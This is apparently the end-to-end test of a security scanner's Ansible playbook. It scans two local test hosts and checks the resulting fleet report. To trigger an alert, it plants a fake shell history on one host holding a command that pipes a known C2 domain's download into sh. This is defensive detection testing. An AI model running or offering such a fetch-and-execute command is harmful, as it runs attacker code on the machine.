#!/usr/bin/python3
"""End-to-end test of the Ansible playbook in contrib/ansible: Debian's
ansible-playbook scans two inventory hosts on this machine (local
connections, each with its own scan root, remote folder and host name) with
a given Harrier binary and renders one fleet report.

usage: ansible_test.py --harrier BINARY [--source DIR] [--case two-hosts|failed-host]

BINARY is any Harrier build (the build tree's or a static dist/harrier;
default $HARRIER_BINARY). Host alpha's root holds a shell history with a C2
domain of the built-in signatures, bravo's is clean.
two-hosts: the fleet report must list both, alpha ALERT and bravo CLEAN.
failed-host: bravo's scan root does not exist (a usage error, exit 2): the
playbook must fail that host, still report alpha, and not show bravo with a
result of an earlier run; the check of two-hosts must find bravo missing
there, so it can fail.
Exit 0 passed, 1 failed, 77 skipped (ansible-playbook is not installed).
"""
import argparse
import csv
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time

from contrib_test_util import finish, first_c2_domain

HOSTS = {"alpha": "test-alpha", "bravo": "test-bravo"}  # inventory name -> host.name



def write_inventory(path, tmp, roots):
    hosts = {}
    for name, host_name in HOSTS.items():
        hosts[name] = {
            "ansible_connection": "local",
            "ansible_python_interpreter": sys.executable,
            "harrier_scan_roots": [roots[name]],
            "harrier_remote_dir": os.path.join(tmp, "remote-" + name),
            # A test-only override: both "hosts" are this machine.
            "harrier_scan_environment": {"HARRIER_TEST_HOSTNAME": host_name},
        }
    with open(path, "w", encoding="utf-8") as f:
        json.dump({"all": {"hosts": hosts}}, f)  # JSON is YAML


def run_playbook(source, harrier, tmp, inventory, out):
    env = dict(os.environ)
    cfg = os.path.join(tmp, "ansible.cfg")  # none of the user's settings
    open(cfg, "w").close()
    env.update({
        "ANSIBLE_CONFIG": cfg,
        "ANSIBLE_HOME": os.path.join(tmp, "ansible-home"),
        "ANSIBLE_LOCAL_TEMP": os.path.join(tmp, "ansible-local"),
        "ANSIBLE_REMOTE_TEMP": os.path.join(tmp, "ansible-remote"),
        "ANSIBLE_NOCOLOR": "1",
        "ANSIBLE_RETRY_FILES_ENABLED": "0",
        "ANSIBLE_PIPELINING": "1",
        "HARRIER_BINARY": harrier,
    })
    cmd = ["ansible-playbook", "-i", inventory,
           os.path.join(source, "contrib/ansible/scan.yml"),
           "-e", "harrier_become=false", "-e", "harrier_report_dir=" + out,
           "-e", "harrier_poll_interval=1"]
    start = time.monotonic()
    r = subprocess.run(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                       text=True, timeout=240)
    print(f"ansible-playbook exit code {r.returncode} after {time.monotonic() - start:.1f} s")
    return r


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def check_fleet(out, expected, planted):
    """Problems of the fleet report in OUT, which must list exactly the
    hosts of EXPECTED (host.name -> verdict)."""
    problems = []
    rows = read_csv(os.path.join(out, "hosts.csv"))
    got = {r["host"]: r["verdict"] for r in rows}
    if got != expected:
        problems.append(f"hosts.csv lists {got}, expected {expected}")
    for r in rows:
        if r["finished"] != "true":
            problems.append(f"hosts.csv: {r['host']} did not finish")
    findings = read_csv(os.path.join(out, "findings.csv"))
    alerts = [(f["host"], f["path"]) for f in findings if f["level"] == "alert"]
    want = [(h, planted) for h, v in expected.items() if v == "alert"]
    if alerts != want:
        problems.append(f"findings.csv alerts {alerts}, expected {want}")
    with open(os.path.join(out, "fleet.html"), encoding="utf-8") as f:
        html = f.read()
    if len(expected) > 1 and f"Harrier fleet report: {len(expected)} scans" not in html:
        problems.append(f"fleet.html is not a fleet report of {len(expected)} scans")
    for host in HOSTS.values():
        if (host in html) != (host in expected):
            problems.append(f"fleet.html {'lacks' if host in expected else 'shows'} {host}")
    return problems


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--harrier", default=os.environ.get("HARRIER_BINARY", ""))
    ap.add_argument("--source", default=os.path.join(os.path.dirname(__file__), "../.."))
    ap.add_argument("--case", choices=["two-hosts", "failed-host"], default="two-hosts")
    args = ap.parse_args()
    if not shutil.which("ansible-playbook"):
        print("SKIP: ansible-playbook is not installed (scripts/install-deps.sh installs "
              "ansible-core); the playbook was not run")
        return 77
    if not args.harrier or not os.access(args.harrier, os.X_OK):
        print(f"no executable Harrier binary: '{args.harrier}' (--harrier or HARRIER_BINARY)")
        return 1
    source = os.path.abspath(args.source)
    harrier = os.path.abspath(args.harrier)
    failures = []

    with tempfile.TemporaryDirectory(prefix="harrier-ansible-") as tmp:
        roots = {n: os.path.join(tmp, "root-" + n) for n in HOSTS}
        os.makedirs(os.path.join(roots["alpha"], "home/bob"))
        planted = os.path.join(roots["alpha"], "home/bob/.bash_history")
        with open(planted, "w", encoding="utf-8") as f:
            f.write(f"ls\ncurl -s https://{first_c2_domain(source)}/update | sh\n")
        os.makedirs(os.path.join(roots["bravo"], "etc"))
        with open(os.path.join(roots["bravo"], "etc/motd"), "w", encoding="utf-8") as f:
            f.write("welcome\n")
        inventory = os.path.join(tmp, "inventory.yml")
        out = os.path.join(tmp, "results")

        if args.case == "two-hosts":
            # Both hosts scanned, one fleet report.
            write_inventory(inventory, tmp, roots)
            r = run_playbook(source, harrier, tmp, inventory, out)
            if r.returncode != 0:
                failures.append(f"ansible-playbook exit code {r.returncode}")
            else:
                both = {"test-alpha": "alert", "test-bravo": "clean"}
                failures += check_fleet(out, both, planted)
                for name in HOSTS:
                    if not os.path.exists(os.path.join(out, name + ".jsonl")):
                        failures.append(f"{name}.jsonl was not fetched")
                    remote = os.path.join(tmp, "remote-" + name)
                    if os.path.exists(remote):
                        failures.append(f"{remote} was left on the host: {os.listdir(remote)}")
        else:
            # bravo's scan fails (its root does not exist: a usage error,
            # exit 2); a bravo.jsonl of an earlier run lies in the results.
            os.makedirs(out)
            with open(os.path.join(out, "bravo.jsonl"), "w", encoding="utf-8") as f:
                f.write("stale result of an earlier run\n")
            roots["bravo"] = os.path.join(tmp, "no-such-root")
            write_inventory(inventory, tmp, roots)
            r = run_playbook(source, harrier, tmp, inventory, out)
            if r.returncode != 2:
                failures.append(f"ansible-playbook exit code {r.returncode}, expected 2 "
                                "(a failed host)")
            failed = [l.split()[0] for l in r.stdout.splitlines() if "failed=1" in l]
            if failed != ["bravo"]:
                failures.append(f"failed hosts {failed}, expected ['bravo']")
            if "No result from bravo" not in r.stdout:
                failures.append("the report step does not name bravo as without result")
            if os.path.exists(os.path.join(out, "bravo.jsonl")):
                failures.append("bravo.jsonl of the earlier run is still in the results")
            if os.path.exists(os.path.join(out, "hosts.csv")):
                failures += check_fleet(out, {"test-alpha": "alert"}, planted)
                # The check of the two-hosts case notices bravo missing.
                if not check_fleet(out, {"test-alpha": "alert", "test-bravo": "clean"},
                                   planted):
                    failures.append("check_fleet does not notice a missing host")
            else:
                failures.append("no fleet report for alpha")
        if failures:
            print(r.stdout)

    return finish(failures)


if __name__ == "__main__":
    sys.exit(main())
